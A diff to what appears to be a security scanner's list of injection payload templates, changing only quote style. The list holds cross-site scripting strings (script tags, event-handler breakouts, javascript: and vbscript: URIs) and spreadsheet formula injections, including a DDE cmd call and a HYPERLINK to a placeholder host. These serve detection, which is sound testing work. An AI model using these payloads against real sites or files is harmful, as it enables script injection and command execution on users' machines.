@@ -51,9 +51,9 @@ _TEMPLATES = (
     "<math><maction actiontype=statusline xlink:href=javascript:canary(%d)>x</maction></math>",
     "<math><mtext><table><mglyph><style><img src=x onerror=canary(%d)>",
     # the end of what stands around it
-    "\"><script>canary(%d)</script>",
+    '"><script>canary(%d)</script>',
     "'><script>canary(%d)</script>",
-    "\" onmouseover=canary(%d) x=\"",
+    '" onmouseover=canary(%d) x="',
     "' onmouseover=canary(%d) x='",
     "x onmouseover=canary(%d) ",
     "` onmouseover=canary(%d) `",
@@ -88,7 +88,7 @@ _TEMPLATES = (
     "javascript:canary(%d)",
     "data:text/html,<script>canary(%d)</script>",
     "vbscript:canary(%d)",
-    "=HYPERLINK(\"http://HOST/%d\")",
+    '=HYPERLINK("http://HOST/%d")',
     "=cmd|' /C canary'!A%d",
     "@SUM(1)*%d",
     # what templates would compute
